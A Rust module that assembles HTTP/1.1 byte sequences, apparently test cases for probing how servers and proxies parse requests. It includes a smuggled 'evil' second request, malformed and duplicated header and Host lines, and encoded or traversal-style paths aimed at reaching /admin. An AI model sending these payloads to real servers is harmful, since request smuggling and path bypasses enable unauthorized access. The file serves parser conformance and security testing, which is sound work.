//! Bytes written by hand: what is known to have fooled servers, and what has not yet.
//!
//! `{EVIL}` stands for a whole second request that hides in a body, `{LEN}` for its length.

mod bodies;
mod lines;

use bodies::{CHUNKS, FRAMINGS};
use lines::LINES;

/// A sequence of bytes and where it comes from.
#[derive(Debug, Clone)]
pub struct Sequence {
    pub name: String,
    pub bytes: Vec<u8>,
}

pub const EVIL: &str = "GET /evil HTTP/1.1\r\nHost: a\r\n\r\n";

/// All of them.
pub fn all() -> Vec<Sequence> {
    let mut all = Vec::new();
    let mut add = |name: String, text: String| {
        let text = text.replace("{LEN}", &EVIL.len().to_string()).replace("{EVIL}", EVIL);
        // Each char is a byte: "\u{a0}" is 0xa0.
        let bytes = text.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect();
        all.push(Sequence { name, bytes });
    };
    for (index, (headers, body)) in FRAMINGS.iter().enumerate() {
        add(format!("framing {index}"), format!("POST /f HTTP/1.1\r\nHost: a\r\n{headers}\r\n{body}"));
    }
    for (index, chunks) in CHUNKS.iter().enumerate() {
        let head = "POST /c HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
        add(format!("chunk {index}"), format!("{head}{chunks}"));
    }
    for (index, lines) in LINES.iter().enumerate() {
        add(format!("line {index}"), (*lines).to_owned());
    }
    for (index, line) in FIELDS.iter().enumerate() {
        add(format!("field {index}"), format!("GET /h HTTP/1.1\r\nHost: a\r\n{line}\r\n\r\n{{EVIL}}"));
    }
    for (index, target) in TARGETS.iter().enumerate() {
        add(format!("target {index}"), format!("GET {target} HTTP/1.1\r\nHost: a\r\n\r\n"));
    }
    for (index, hosts) in HOSTS.iter().enumerate() {
        add(format!("host {index}"), format!("GET /o HTTP/1.1\r\n{hosts}X: y\r\n\r\n"));
    }
    let hundred = "GET /p HTTP/1.1\r\nHost: a\r\n\r\n".repeat(100);
    add("a hundred pipelined".to_owned(), hundred);
    all
}

/// Lines of a head.
const FIELDS: &[&str] = &[
    "X",
    ": y",
    "X:",
    "X : y",
    "X\t: y",
    " X: y",
    "\tX: y",
    "X: y\r\n z",
    "X: y\r\n\tz",
    "X: y\r\n \r\nZ: z",
    "X: a\rb",
    "X: a\0b",
    "X: a\u{b}b",
    "X: a\u{7f}b",
    "X: \u{e9}",
    "X\u{e9}: y",
    "X\0: y",
    "X(: y",
    "X\"Y: y",
    "X_Y: y",
    "X:y:z",
    "Connection: X-Real-Ip, Authorization",
    "Connection: close, X-Forwarded-For",
    "Connection: host",
    "Connection: connection",
    "Keep-Alive: timeout=5",
    "Proxy-Connection: close",
    "TE: trailers, chunked",
    "TE: gzip",
    "Trailer: Content-Length",
    "X-HTTP-Method-Override: DELETE",
    "Content-Encoding: chunked",
    "Via: 1.1 a",
    "Max-Forwards: 0",
    "Upgrade-Insecure-Requests: 1",
    "X-Role: user\r\nX-Role: admin",
];

/// Targets.
const TARGETS: &[&str] = &[
    "/admin/",
    "//admin",
    "/./admin",
    "/x/../admin",
    "/../admin",
    "/%61dmin",
    "/%2e%2e/admin",
    "/x%2f..%2fadmin",
    "/x%5c..%5cadmin",
    "\\admin",
    "/x\\..\\admin",
    "/admin;x=y",
    "/admin;/..;/",
    "/admin%3b",
    "/admin#f",
    "/admin?",
    "/admin?a#b",
    "/admin%00",
    "/ADMIN",
    "/admin%20",
    "/%c0%afadmin",
    "/%252fadmin",
    "/%",
    "/%zz",
    "/%u0061",
    "/a b",
    "/\u{e9}",
    "/<>\"{}|^`",
    "?query",
    "admin",
    "",
    "a.example",
    "http://a/absolute",
    "http://a",
    "http://a?q",
    "HTTP://A/absolute",
    "http://b/other",
    "http://user@a/",
    "http://user:pass@a/",
    "http:///x",
    "http:/x",
    "http:x",
    "https://a/x",
    "ftp://a/x",
    "javascript:x",
    "http://a:99999/",
    "http://a:0/",
    "http://a:/",
    "http://a:80:80/",
    "http://[::1]/",
    "http://[::1/",
    "http://a\\@b/",
    "http://a#@b/",
    "//b/path",
    "/http://b/",
    "/?http://b/",
    "/x?a=%0d%0aX:%20y",
    "*",
    "/*",
    "a:80",
    "/a;b;c//d/./e/../f?g/../h",
];

/// Host lines, each with its end.
const HOSTS: &[&str] = &[
    "",
    "Host: a\r\nHost: a\r\n",
    "Host: a\r\nHost: b\r\n",
    "Host: a, b\r\n",
    "Host: a b\r\n",
    "Host: a\0\r\n",
    "Host: a@b\r\n",
    "Host:\r\n",
    "Host: \r\n",
    "Host:a\r\n",
    "Host : a\r\n",
    " Host: a\r\n",
    "host: A\r\n",
    "Host: a.\r\n",
    "Host: a:80\r\n",
    "Host: a:\r\n",
    "Host: a:x\r\n",
    "Host: a:99999\r\n",
    "Host: a/b\r\n",
    "Host: a?b\r\n",
    "Host: a#b\r\n",
    "Host: http://a\r\n",
    "Host: [::1]\r\n",
    "Host: [::1\r\n",
    "Host: [::1]x\r\n",
    "Host: \u{e9}\r\n",
    "Host: %61\r\n",
    "Host: a\\b\r\n",
    "Host: a\tb\r\n",
    "Host: a\r\n b\r\n",
    "Host: -\r\n",
    "Host: ..\r\n",
    "Host: 127.1\r\n",
    "X-Host: b\r\nHost: a\r\n",
    "Host: a\rHost: b\r\n",
    "Host: a\nHost: b\r\n",
];
